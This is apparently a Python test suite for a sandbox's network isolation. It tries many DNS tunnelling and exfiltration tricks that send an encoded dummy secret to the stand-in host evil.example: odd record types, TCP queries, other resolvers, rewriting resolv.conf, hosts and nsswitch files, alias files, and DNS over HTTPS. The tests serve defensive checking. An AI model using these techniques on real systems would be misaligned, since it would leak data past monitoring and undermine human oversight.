"""Through DNS: a query must not carry data out."""

SECRET = base64.b32encode(b"the secret of the sandbox").decode().strip("=").lower()
SERVER = ("127.0.0.1", 53)
KINDS = {"A": 1, "NS": 2, "CNAME": 5, "NULL": 10, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33,
         "HTTPS": 65, "AXFR": 252, "ANY": 255}


def ask(message, server=SERVER):
    return udp(*server, message)


def ask_on_a_stream(message, server=SERVER):
    return tcp(*server, struct.pack("!H", len(message)) + message)


each("tunnel in a query of the type", lambda kind: ask(question(f"{SECRET}.evil.example", KINDS[kind])), KINDS)
each("tunnel in a query on a stream of the type",
     lambda kind: ask_on_a_stream(question(f"{SECRET}.evil.example", KINDS[kind])), ("A", "TXT", "AXFR"))
each("tunnel below an allowed name", lambda kind: ask(question(f"{SECRET}.allowed.example", KINDS[kind])),
     ("A", "TXT", "AAAA"))


@escape
def query_to_another_server():
    message = question(f"{SECRET}.evil.example", 16)
    return everywhere(lambda address: (ask(message, (address, PORT)), ask(message, (address, 53))))


@escape
def query_to_another_server_on_a_stream():
    return everywhere(lambda address: ask_on_a_stream(question(f"{SECRET}.evil.example", 16), (address, PORT)))


@escape
def query_with_two_questions():
    first, second = question("allowed.example", 1, count=2), question(f"{SECRET}.evil.example", 1)
    return ask(first + second[12:])


@escape
def query_with_a_subnet_in_it():
    more = b"\0\0\x29\x10\0\0\0\0\0\0\x0b\0\x08\0\x07\0\x01\x18\0" + socket.inet_aton(HOSTS[0])[:3]
    message = bytearray(question("allowed.example", 1) + more)
    message[11] = 1
    return ask(bytes(message))


@escape
def query_of_another_class():
    return ask(question(f"{SECRET}.evil.example", 16, kind_of_class=3))


@escape
def change_of_a_zone():
    return ask(question("evil.example", 6, flags=5 << 11)), ask(question("evil.example", 6, flags=4 << 11))


@escape
def query_with_a_pointer():
    return ask(struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\x06secret\xc0\x0c\0\x01\0\x01")


@escape
def query_with_a_dot_in_a_label():
    return ask(struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\x0eevil.example.x\x07example\0\0\x01\0\x01")


@escape
def query_that_is_an_answer():
    return ask(question(f"{SECRET}.evil.example", 1, flags=0x8580))


@escape
def lookup_of_many_labels():
    return [socket.getaddrinfo(f"{number}.{SECRET[:50]}.evil.example", 80) for number in range(3)]


@escape
def lookup_with_another_domain():
    return sh("getent hosts allowed-not; true", LOCALDOMAIN="evil.example", RES_OPTIONS="ndots:9")


@escape
def lookup_with_an_alias():
    with open("/tmp/aliases", "w") as file:
        file.write("alias evil.example\n")
    return sh("getent hosts alias; curl -sm 3 http://alias/; true", HOSTALIASES="/tmp/aliases", http_proxy="")


@escape
def another_resolver_in_the_file():
    return sh(f"echo nameserver {HOSTS[0]} > /etc/resolv.conf; getent hosts {SECRET}.evil.example; true")


@escape
def another_file_of_hosts():
    line = f"{HOSTS[0]} allowed.example"
    return sh(f"echo '{line}' >> /etc/hosts; curl -sm 3 --noproxy '*' http://allowed.example:{PORT}/; true")


@escape
def another_order_of_services():
    return sh(f"echo 'hosts: dns' > /etc/nsswitch.conf; getent hosts {SECRET}.evil.example; true")


@escape
def lookup_over_https():
    return sh(f"curl -sm 3 --doh-url https://evil.example/dns-query http://{SECRET}.evil.example/; true")
